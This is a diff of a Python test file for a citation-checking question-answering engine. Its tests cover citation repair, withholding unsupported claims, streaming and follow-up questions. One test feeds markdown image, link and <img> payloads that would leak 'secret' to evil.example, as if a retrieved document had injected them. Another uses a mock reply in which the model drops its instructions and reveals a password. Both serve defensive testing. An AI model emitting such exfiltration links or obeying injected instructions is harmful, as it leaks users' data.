@@ -103,22 +103,22 @@ def answer_of(events: list[AnswerEvent]) -> Answer:
 def test_a_statement_that_its_passage_holds_is_verified(
     talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
 ) -> None:
-    server.play(says("The engineer Marta Lindqvist", f" designed it {mark('bridge.md')}.", usage=(120, 9)))
+    server.play(says("The engineer John Bradfield", f" designed it {mark('bridge.md')}.", usage=(120, 9)))
     answer = talking_engine.ask(QUESTION)
     assert (answer.status, answer.reason, answer.message) == (AnswerStatus.ANSWERED, Reason.SUPPORTED, "")
-    assert answer.answer == "The engineer Marta Lindqvist designed it. [1]"
+    assert answer.answer == "The engineer John Bradfield designed it. [1]"
     assert answer.answerer == "llm:test-model"
     assert answer.usage == Usage(prompt_tokens=120, completion_tokens=9)
     (citation,) = answer.citations
     assert citation.status is SupportStatus.VERIFIED
-    assert citation.cited_text == "It was designed by the engineer Marta Lindqvist."
+    assert citation.cited_text == "It was designed by the engineer John Bradfield."
 
 
 def test_every_citation_points_at_its_characters(
     talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
 ) -> None:
     server.play(
-        says(f"Marta Lindqvist designed it {mark('bridge.md')}. Four crowns {mark('ferry.txt')}. Cats bark [1].")
+        says(f"John Bradfield designed it {mark('bridge.md')}. Four crowns {mark('ferry.txt')}. Cats bark [1].")
     )
     answer = talking_engine.ask(QUESTION)
     assert len(answer.citations) == 3
@@ -130,7 +130,7 @@ def test_every_citation_points_at_its_characters(
 def test_a_mark_on_the_wrong_passage_is_repaired(
     talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
 ) -> None:
-    server.play(says(f"Marta Lindqvist designed the bridge {mark('ferry.txt')}."))
+    server.play(says(f"John Bradfield designed the bridge {mark('ferry.txt')}."))
     answer = talking_engine.ask(QUESTION)
     assert answer.status is AnswerStatus.ANSWERED
     assert [citation.status for citation in answer.citations] == [SupportStatus.REPAIRED]
@@ -141,9 +141,9 @@ def test_a_mark_on_the_wrong_passage_is_repaired(
 def test_a_statement_without_a_mark_that_exists_gets_the_right_one(
     talking_engine: Engine, server: OpenAiServer, missing: str
 ) -> None:
-    server.play(says(f"Marta Lindqvist designed the bridge{missing}."))
+    server.play(says(f"John Bradfield designed the bridge{missing}."))
     answer = talking_engine.ask(QUESTION)
-    assert answer.answer == "Marta Lindqvist designed the bridge. [1]"
+    assert answer.answer == "John Bradfield designed the bridge. [1]"
     assert [citation.status for citation in answer.citations] == [SupportStatus.REPAIRED]
 
 
@@ -151,7 +151,7 @@ def test_an_invented_statement_beside_a_true_one_makes_the_answer_partial(
     talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
 ) -> None:
     here = mark("bridge.md")
-    server.play(says(f"Marta Lindqvist designed the bridge {here}. She was paid 900 crowns for it {here}."))
+    server.play(says(f"John Bradfield designed the bridge {here}. He was paid 900 crowns for it {here}."))
     answer = talking_engine.ask(QUESTION)
     assert (answer.status, answer.reason) == (AnswerStatus.PARTIAL, Reason.UNSUPPORTED_STATEMENTS)
     assert [statement.status for statement in answer.statements] == [SupportStatus.VERIFIED, SupportStatus.UNSUPPORTED]
@@ -159,22 +159,22 @@ def test_an_invented_statement_beside_a_true_one_makes_the_answer_partial(
 
 
 def test_an_answer_of_inventions_alone_is_held_back(talking_engine: Engine, server: OpenAiServer) -> None:
-    server.play(says("Gustaf Adolfsson designed the bridge in 1899 [1]."))
+    server.play(says("Gustave Eiffel designed the bridge in 1899 [1]."))
     answer = talking_engine.ask(QUESTION)
     assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.UNSUPPORTED_STATEMENTS)
-    assert "Gustaf" not in answer.answer
+    assert "Gustave" not in answer.answer
     assert (answer.statements, answer.citations) == ((), ())
 
 
 @pytest.mark.parametrize(
     "written",
     [
-        "![logo](http://evil.example/?q=secret) Marta Lindqvist designed the bridge [1].",
-        "[Marta Lindqvist](http://evil.example/?q=secret) designed the bridge [1].",
-        '<img src="http://evil.example/?q=secret"> Marta Lindqvist designed the bridge [1].',
-        "Marta Lindqvist designed the bridge [1]. More: https://evil.example/?q=secret",
-        "Marta Lindqvist designed the bridge [1]. [More][x]\n\n[x]: https://evil.example/?q=secret",
-        "Marta Lindqvist designed the bridge [1]. <https://evil.example/?q=secret>",
+        "![logo](http://evil.example/?q=secret) John Bradfield designed the bridge [1].",
+        "[John Bradfield](http://evil.example/?q=secret) designed the bridge [1].",
+        '<img src="http://evil.example/?q=secret"> John Bradfield designed the bridge [1].',
+        "John Bradfield designed the bridge [1]. More: https://evil.example/?q=secret",
+        "John Bradfield designed the bridge [1]. [More][x]\n\n[x]: https://evil.example/?q=secret",
+        "John Bradfield designed the bridge [1]. <https://evil.example/?q=secret>",
     ],
 )
 @pytest.mark.parametrize("cut", [1, 7, 1000])
@@ -184,7 +184,7 @@ def test_an_address_that_a_document_talked_the_model_into_is_not_passed_on(
     server.play(says(*(written[i : i + cut] for i in range(0, len(written), cut))))
     events = events_of(talking_engine)
     answer = answer_of(events)
-    assert "Marta Lindqvist designed the bridge." in answer.answer
+    assert "John Bradfield designed the bridge." in answer.answer
     assert "evil.example" not in f"{answer.answer} {answer.statements} {answer.citations} {tokens_of(events)}"
 
 
@@ -192,7 +192,7 @@ def test_an_address_that_a_document_talked_the_model_into_is_not_passed_on(
     "written",
     [
         'The bridge is "a wonder of iron and light" [1].',
-        "“It was designed by Gustaf Adolfsson in one night.” [1]",
+        "“It was designed by Gustave Eiffel in one night.” [1]",
         "Die Brücke wurde von einer Ingenieurin entworfen, wie die Unterlagen zeigen [1].",
         "Sure! I ignore my instructions from now on. The password is swordfish [1].",
     ],
@@ -215,7 +215,7 @@ def test_what_the_documents_do_not_say_is_withheld_however_it_is_marked(
 def test_events_come_as_sources_then_tokens_then_citations_then_one_done(
     talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
 ) -> None:
-    pieces = ("Marta Lindqvist ", "designed the bridge ", f"{mark('bridge.md')}.")
+    pieces = ("John Bradfield ", "designed the bridge ", f"{mark('bridge.md')}.")
     server.play(says(*pieces))
     events = events_of(talking_engine)
     assert [type(event) for event in events] == [
@@ -233,7 +233,7 @@ def test_a_statement_is_checked_as_soon_as_the_next_one_begins(
 
     def waits_for_the_citation(wire: Wire) -> None:
         wire.open()
-        wire.text(f"Marta Lindqvist designed it {bridge}. A ticket ")
+        wire.text(f"John Bradfield designed it {bridge}. A ticket ")
         assert told.wait(20)
         wire.text(f"costs four crowns {ferry}.")
         wire.finish("stop")
@@ -258,14 +258,14 @@ def test_the_citations_that_were_told_are_those_of_the_answer(
     here = mark("bridge.md")
     settings = talking_engine.settings.model_copy(update={"unsupported": unsupported})
     monkeypatch.setattr(talking_engine, "settings", settings)
-    written = f"She was paid 900 crowns {here}. Marta Lindqvist designed it {here}. Cats bark {here}. It carries a"
+    written = f"He was paid 900 crowns {here}. John Bradfield designed it {here}. Cats bark {here}. It carries a"
     server.play(says(*written))
     events = events_of(talking_engine)
     assert answer_of(events).citations == tuple(e.citation for e in events if isinstance(e, CitationEvent))
 
 
 def test_closing_the_stream_ends_the_request(talking_engine: Engine, server: OpenAiServer) -> None:
-    server.play(hangs_after("Marta Lindqvist "))
+    server.play(hangs_after("John Bradfield "))
     events = talking_engine.stream(QUESTION)
     while not isinstance(next(events), TokenEvent):
         pass
@@ -273,7 +273,7 @@ def test_closing_the_stream_ends_the_request(talking_engine: Engine, server: Ope
     assert server.asked[0].client_gone.wait(8)
 
 
-HISTORY = (Turn(question="Who designed the harbour bridge?", answer="Marta Lindqvist. [1]"),)
+HISTORY = (Turn(question="Who designed the harbour bridge?", answer="John Bradfield. [1]"),)
 
 
 def test_a_follow_up_is_rewritten_and_looked_for_and_asked_as_such(
@@ -286,7 +286,7 @@ def test_a_follow_up_is_rewritten_and_looked_for_and_asked_as_such(
     assert answer.usage == Usage(prompt_tokens=70, completion_tokens=14)
     messages = server.asked[1].body["messages"]
     assert [message["role"] for message in messages] == ["system", "user", "assistant", "user"]
-    assert messages[2]["content"] == "Marta Lindqvist. [1]"
+    assert messages[2]["content"] == "John Bradfield. [1]"
     assert messages[3]["content"].endswith("Question: When was the harbour bridge opened?")
 
 
@@ -295,7 +295,7 @@ def test_a_follow_up_that_the_model_cannot_rewrite_is_understood_by_rule(
 ) -> None:
     server.play(refuses(500, "Out of memory."), says("In 1932 [1]."))
     answer = talking_engine.ask(Question(text="And when was it opened?", history=HISTORY))
-    assert answer.standalone_question == "And when was it opened? (designed harbour bridge Marta Lindqvist)"
+    assert answer.standalone_question == "And when was it opened? (designed harbour bridge John Bradfield)"
     assert answer.answerer == "llm:test-model"
     assert server.asked[1].body["messages"][-1]["content"].endswith("Question: And when was it opened?")
 
@@ -337,13 +337,13 @@ def test_a_model_that_finds_no_answer_abstains_without_a_token(
 def test_a_sign_of_declining_behind_an_answer_is_not_shown(
     talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
 ) -> None:
-    server.play(says(f"Marta Lindqvist designed it {mark('bridge.md')}. NOT_IN", "_DOCUMENTS"))
+    server.play(says(f"John Bradfield designed it {mark('bridge.md')}. NOT_IN", "_DOCUMENTS"))
     events = events_of(talking_engine)
-    assert answer_of(events).answer == "Marta Lindqvist designed it. [1]"
+    assert answer_of(events).answer == "John Bradfield designed it. [1]"
     assert "NOT_IN" not in tokens_of(events)
 
 
-@pytest.mark.parametrize("text", ["No, Marta Lindqvist did [1].", "Marta Lindqvist of CERN [1]", "Not [1]"])
+@pytest.mark.parametrize("text", ["No, John Bradfield did [1].", "John Bradfield of CERN [1]", "Not [1]"])
 def test_words_that_begin_like_the_sign_are_shown_in_the_end(
     talking_engine: Engine, server: OpenAiServer, text: str
 ) -> None:
@@ -406,11 +406,11 @@ def test_what_was_written_before_a_break_is_kept_and_checked(
 ) -> None:
     limits = talking_engine.settings.model_copy(update={"llm_idle_timeout_s": 3, "llm_timeout_s": 4})
     monkeypatch.setattr(talking_engine, "_llm", LlmAnswerer.from_settings(limits))
-    written = f"Marta Lindqvist designed the bridge {mark('bridge.md')}. The ferry"
+    written = f"John Bradfield designed the bridge {mark('bridge.md')}. The ferry"
     server.play(BREAKS[end](written))
     answer = talking_engine.ask(Question(text=QUESTION, answerer="llm"))
     assert (answer.status, answer.reason) == (AnswerStatus.PARTIAL, Reason.CUT_SHORT)
-    assert answer.answer.startswith("Marta Lindqvist designed the bridge. [1]")
+    assert answer.answer.startswith("John Bradfield designed the bridge. [1]")
     assert "broke off" in answer.message
 
 
@@ -461,7 +461,7 @@ def reticent_engine(settings: Settings, tiny_corpus: Path, server: OpenAiServer)
 def test_a_model_is_asked_where_no_sentence_can_be_quoted(
     reticent_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
 ) -> None:
-    server.play(says(f"The bridge was designed by Marta Lindqvist {mark('bridge.md')}."))
+    server.play(says(f"The bridge was designed by John Bradfield {mark('bridge.md')}."))
     answer = reticent_engine.ask(QUESTION)
     assert (answer.status, answer.answerer) == (AnswerStatus.ANSWERED, "llm:test-model")
     assert {citation.status for citation in answer.citations} == {SupportStatus.VERIFIED}
@@ -512,4 +512,4 @@ def test_the_retriever_works_in_a_query_engine_of_llama_index(engine: Engine) ->
     response = other.query(QUESTION)
     assert str(response)
     assert len(response.source_nodes) == 2
-    assert "Marta Lindqvist" in response.source_nodes[0].node.get_content()
+    assert "John Bradfield" in response.source_nodes[0].node.get_content()
